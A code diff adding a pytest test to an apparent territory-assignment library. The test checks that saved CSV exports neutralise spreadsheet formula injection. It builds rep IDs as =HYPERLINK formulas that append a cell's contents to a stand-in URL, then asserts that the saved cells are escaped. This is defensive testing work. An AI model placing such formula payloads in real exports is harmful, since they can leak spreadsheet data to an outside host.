@@ -685,3 +685,17 @@ def test_one_segment_band_validator_for_mappings_and_territories():
     with pytest.raises(ParameterError, match="segment names must be unique"):
         schema.segment_bands([["A", 0, 10], ["A", 10, None]])
     assert schema.segment_bands("S:0:10,L:10:") == (("S", 0.0, 10.0), ("L", 10.0, float("inf")))
+
+
+def test_saved_assignment_names_are_inert_in_a_spreadsheet(tmp_path):
+    accounts, reps, pot = random_book(6, 2, seed=3, groups=(("EU", "SMB"),))
+    hostile = {r: f'=HYPERLINK("http://x"&A2,"{r}")' for r in reps["rep_id"]}
+    reps = reps.assign(rep_id=reps["rep_id"].map(hostile))
+    accounts = accounts.assign(owner_rep_id=accounts["owner_rep_id"].map(hostile))
+    plan = territory.assign_territories(accounts, reps, pot)
+    paths = plan.save(tmp_path / "plan.csv")
+    for kind in ("assignment", "balance"):
+        text = paths[kind].read_text(encoding="utf-8")
+        cells = [c for line in text.splitlines() for c in line.split(",")]
+        assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "@"))], kind
+        assert "'=HYPERLINK" in text, kind
